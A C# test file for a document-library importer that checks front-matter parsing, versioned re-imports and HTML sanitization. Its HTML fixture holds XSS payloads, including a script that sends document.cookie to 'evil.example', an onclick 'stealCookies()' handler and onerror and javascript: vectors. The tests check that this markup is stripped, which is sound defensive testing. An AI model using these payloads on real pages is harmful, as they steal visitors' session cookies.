using Cadre.Accounts;
using Cadre.Data;
using Cadre.Education.Library;
using Cadre.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;

namespace Cadre.Tests.Education;

public sealed class ImportLibraryTests
{
    private static readonly ImportLibrary.SourceFile Programme = new("programme.md", """
        ---
        key: programme
        title: "The Programme"
        author: Central Committee
        year: 1992
        kind: programme
        language: en
        tags: [programme, founding]
        ---
        # Aims

        The party organizes the working people.
        """);

    private static readonly ImportLibrary.SourceFile Lecture = new("lectures/korean.md", """
        ---
        title: 당의 강령에 대하여
        kind: lecture
        language: ko
        ---
        노동자 계급의 당은 대중과 함께 있다.
        """);

    private static Task<Cadre.Common.Result<ImportLibrary.Report>> ImportAsync(TestDatabase database, int organizationId, params ImportLibrary.SourceFile[] files)
    {
        var actor = Actor.System("test");
        return ImportLibrary.HandleAsync(database.Context(actor), actor, organizationId, files, TestDatabase.Ct);
    }

    [Theory, MemberData(nameof(Engines.All), MemberType = typeof(Engines))]
    public async Task A_folder_imports_once_and_a_rerun_changes_nothing_while_a_changed_text_is_a_new_version(DatabaseProvider provider)
    {
        await using var database = await TestDatabase.CreateAsync(provider);
        var tree = await database.CreateTreeAsync();

        var first = (await ImportAsync(database, tree.Centre, Programme, Lecture)).Ok();
        var again = (await ImportAsync(database, tree.Centre, Programme, Lecture)).Ok();
        var amended = (await ImportAsync(database, tree.Centre, Programme with { Text = Programme.Text + "\nAnd studies its history." }, Lecture)).Ok();

        Assert.Equal((2, 0, 0), (first.Created, first.Revised, first.Unchanged));
        Assert.Equal((0, 0, 2), (again.Created, again.Revised, again.Unchanged));
        Assert.Equal((0, 1, 1), (amended.Created, amended.Revised, amended.Unchanged));
        await using var db = database.Context();
        var programme = await db.Documents.SingleAsync(d => d.Key == "programme", TestDatabase.Ct);
        Assert.Equal(("The Programme", "Central Committee", 1992, DocumentKind.Programme, "programme, founding", 2),
            (programme.Title, programme.Author, programme.Year, programme.Kind, programme.Tags, programme.CurrentVersion));
        // Without a key the file's path is the key, so renaming the title keeps the document.
        Assert.True(await db.Documents.AnyAsync(d => d.Key == "lectures-korean" && d.Language == "ko", TestDatabase.Ct));
        Assert.Equal(["lectures-korean"], await database.FoundKeysAsync("노동자 계급"));
        Assert.Equal(["programme"], await database.FoundKeysAsync("history"));
    }

    [Theory, MemberData(nameof(Engines.All), MemberType = typeof(Engines))]
    public async Task Broken_front_matter_names_the_file_and_line_and_nothing_is_imported(DatabaseProvider provider)
    {
        await using var database = await TestDatabase.CreateAsync(provider);
        var tree = await database.CreateTreeAsync();
        var cases = new (ImportLibrary.SourceFile File, string Message)[]
        {
            (new("bad/year.md", "---\ntitle: A\nyear: nineteen\n---\ntext"), "bad/year.md:3: The year 'nineteen' is not a year"),
            (new("kind.md", "---\ntitle: A\nkind: pamphlet\n---\ntext"), "kind.md:3: 'pamphlet' is not a kind of document"),
            (new("open.md", "---\ntitle: A\nkind: work"), "open.md:1: The front matter opened on line 1 is never closed"),
            (new("field.md", "---\ntitle: A\ncolour: red\n---\ntext"), "field.md:3: 'colour' is not a field of a document"),
            (new("line.md", "---\ntitle: A\njust words\n---\ntext"), "line.md:3: 'just words' is not a 'name: value' line."),
            (new("twice.md", "---\ntitle: A\ntitle: B\n---\ntext"), "twice.md:3: 'title' is given twice."),
            (new("empty.md", "---\ntitle: A\n---\n"), "empty.md:1: body: The document has no text."),
            (new("key.md", "---\nkey: Not A Slug\n---\ntext"), "key.md:1: key: The key is 1 to"),
        };

        foreach (var (file, message) in cases)
        {
            var error = (await ImportAsync(database, tree.Centre, Programme, file)).Fails<FrontMatterInvalid, ImportLibrary.Report>();
            Assert.StartsWith(message, error.Message, StringComparison.Ordinal);
        }
        Assert.IsType<ImportLibrary.DuplicateKey>((await ImportAsync(database, tree.Centre, Programme, Programme with { RelativePath = "copy.md" })).Error);
        Assert.Equal(0, await database.CountAsync<Document>());
        Assert.Empty(await database.FoundKeysAsync("organizes"));
    }

    private static readonly ImportLibrary.SourceFile Speech = new("speeches/congress.html", """
        ---
        key: congress-speech
        title: Speech to the Congress
        kind: lecture
        ---
        <html><head><title>ignored</title><style>.tagline { color: red }</style></head>
        <body>
        <h1 class="tagline">Our <em>Tasks</em></h1>
        <p onclick="stealCookies()">The cooperatives <strong>federate</strong> in every province.</p>
        <script>document.location = 'https://evil.example/' + document.cookie</script>
        <ul><li>Literacy</li><li>Irrigation &amp; roads</li></ul>
        <p>Quoted markup: &lt;script&gt;alert(2)&lt;/script&gt; and <a href="javascript:alert(3)">a link</a>.</p>
        <img src="x" onerror="alert(4)">
        </body></html>
        """);

    [Theory, MemberData(nameof(Engines.All), MemberType = typeof(Engines))]
    public async Task An_html_file_is_searched_by_its_text_not_its_tags_and_shown_without_its_markup(DatabaseProvider provider)
    {
        await using var database = await TestDatabase.CreateAsync(provider);
        var tree = await database.CreateTreeAsync();

        (await ImportAsync(database, tree.Centre, Speech)).Ok();

        // The text between the tags is searched, words split by inline tags included; tags, attributes, scripts and styles are not.
        Assert.Equal(["congress-speech"], await database.FoundKeysAsync("cooperatives federate"));
        Assert.Equal(["congress-speech"], await database.FoundKeysAsync("\"our tasks\""));
        Assert.Equal(["congress-speech"], await database.FoundKeysAsync("irrigation roads"));
        foreach (var markup in HtmlMarkupWords) Assert.True((await database.FoundKeysAsync(markup)).Count == 0, markup);
        var hit = (await database.SearchAsync("federate")).Single();
        Assert.Contains("<mark>federate</mark>", hit.SnippetHtml);
        Assert.DoesNotContain("<strong", hit.SnippetHtml);

        await using var db = database.Context();
        var id = await db.Documents.Where(d => d.Key == "congress-speech").Select(d => d.Id).SingleAsync(TestDatabase.Ct);
        var view = (await LibraryQueries.GetAsync(database.Context(), Actor.System("test"), id, null, TestDatabase.Ct)).Ok();
        Assert.Equal(DocumentFormat.Html, view.Format);
        Assert.Equal([("Our Tasks", "our-tasks")], view.Headings.Select(h => (h.Title, h.Anchor)).ToList());
        Assert.Contains("<h1 id=\"our-tasks\">Our Tasks</h1>", view.Html);
        Assert.Contains("<li>Irrigation &amp; roads</li>", view.Html);
        // Markup written as text stays text; no element, attribute or script URL of the file reaches the page.
        Assert.Contains("&lt;script&gt;alert(2)&lt;/script&gt;", view.Html);
        foreach (var unsafeMarkup in UnsafeHtml) Assert.DoesNotContain(unsafeMarkup, view.Html, StringComparison.OrdinalIgnoreCase);
    }

    private static readonly string[] HtmlMarkupWords = ["onclick", "stealCookies", "tagline", "strong", "evil", "cookie", "ignored", "color", "onerror", "href"];

    private static readonly string[] UnsafeHtml = ["<script", "onclick", "onerror", "javascript:", "<img", "<style", "evil.example", "<a "];
}
